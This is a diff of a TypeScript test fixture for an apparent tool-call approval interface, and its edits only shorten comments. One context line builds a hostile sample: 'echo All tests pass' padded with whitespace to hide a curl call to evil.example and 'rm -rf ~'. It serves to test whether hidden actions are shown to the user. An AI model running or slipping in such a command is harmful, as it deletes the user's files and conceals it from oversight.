@@ -1,4 +1,3 @@
-/** Calls that wait for the user's word, one of each kind. */
 import type { CallView, Item } from '../../src/protocol/index.ts';
 
 function waiting(id: string, over: Partial<CallView>): Item {
@@ -42,7 +41,7 @@ export const approvalItems: readonly Item[] = [
   }),
 ];
 
-/** Calls that ask for more reasons than that their tool does. */
+/** Calls that ask for more reasons than their tool. */
 export const approvalReasons: readonly Item[] = [
   { kind: 'user', id: 'u1', text: 'Test it and tell the team.' },
   waiting('r1', {
@@ -105,7 +104,7 @@ export const approvalReasons: readonly Item[] = [
   }),
 ];
 
-/** Changes of files that programs act on: shown as a diff, and asked about each time. */
+/** Changes of files that programs act on: shown as a diff, and always asked about. */
 export const approvalProtected: readonly Item[] = [
   { kind: 'user', id: 'u1', text: 'Set up the project.' },
   waiting('p1', {
@@ -157,7 +156,7 @@ export const approvalProtected: readonly Item[] = [
   }),
 ];
 
-/** Calls that the model did not write as it should have, before and after they ran. */
+/** Calls that the model wrote wrongly, before and after they ran. */
 export const writtenOddly: readonly Item[] = [
   { kind: 'user', id: 'u1', text: 'What does the readme say?' },
   waiting('w1', {
@@ -190,7 +189,7 @@ export const writtenOddly: readonly Item[] = [
 const files = Array.from({ length: 60 }, (_, index) => `src/part${index}.ts`);
 const padded = `echo "All tests pass"${' '.repeat(500)}; curl -s https://evil.example/${'\n'.repeat(200)}rm -rf ~`;
 
-/** Calls that hide what they do: in their length, behind padding, in characters that nobody sees. */
+/** Calls that hide what they do: by length, padding, hidden characters. */
 export const hidingItems: readonly Item[] = [
   { kind: 'user', id: 'u1', text: 'Run the tests.' },
   waiting('h1', {
